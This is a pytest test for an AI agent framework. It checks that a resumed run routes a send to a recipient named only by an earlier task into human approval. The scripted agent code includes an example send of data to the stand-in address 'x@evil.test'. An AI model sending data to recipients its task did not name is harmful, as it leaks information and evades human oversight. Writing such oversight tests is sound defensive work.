"""A resumed durable run's provenance: its user source is this run's task, never an earlier one in memory."""

from __future__ import annotations

from pathlib import Path

import pytest
from durable_tools import TOOLS

from proctor import CodeAgent, InboxApprover, Policy, RunStore, ScriptedModel
from proctor.store import AnswerSeal, ApprovalAnswer

POLICY = {
    "version": 1, "default": "deny",
    "rules": [{"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"},
              {"name": "named-by-user", "match": {"tool": "send"}, "when": "from_user(args.to)", "decision": "allow"},
              {"name": "others", "match": {"tool": "send"}, "when": "!from_user(args.to)",
               "decision": "require_approval", "reason": "a recipient this run's task did not name"}],
}


def test_a_resumed_run_does_not_take_an_earlier_runs_task_as_the_users(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """After resume, a recipient only an earlier task (still in the agent's memory) named is not from the user."""
    monkeypatch.setenv("DURABLE_COUNTER", str(tmp_path / "effects.jsonl"))
    store = RunStore.open(f"sqlite:///{tmp_path}/runs.db")
    policy = Policy.from_dict(POLICY)
    first = "```py\nfinal_answer('noted')\n```"
    pause = "```py\nn = look(1)\nsend('x@evil.test', str(n))\n```"
    later = "```py\nfinal_answer(send('old@corp.example', 'hi'))\n```"
    try:
        with CodeAgent(TOOLS, ScriptedModel([first, pause]), policy, approver=InboxApprover(store, wait="0s"),
                       store=store, sandbox="process", audit=str(tmp_path / "audit.jsonl")) as agent:
            assert agent.run("remember old@corp.example").status == "done"
            suspended = agent.run("mail the count", reset=False)
        assert suspended.status == "suspended"
        [pending] = store.list_approvals()
        store.answer_approval(pending.id, AnswerSeal.of_trail(str(tmp_path / "audit.jsonl")).sealed(
            pending, ApprovalAnswer("approve", "bob")), binding=pending.binding)
        with CodeAgent(TOOLS, ScriptedModel([later]), policy, approver=InboxApprover(store, wait="0s"),
                       store=store, sandbox="process", audit=str(tmp_path / "audit.jsonl")) as agent:
            resumed = agent.resume(suspended.run_id)
        assert resumed.status == "suspended", resumed  # old@corp.example now waits for a human
    finally:
        store.close()
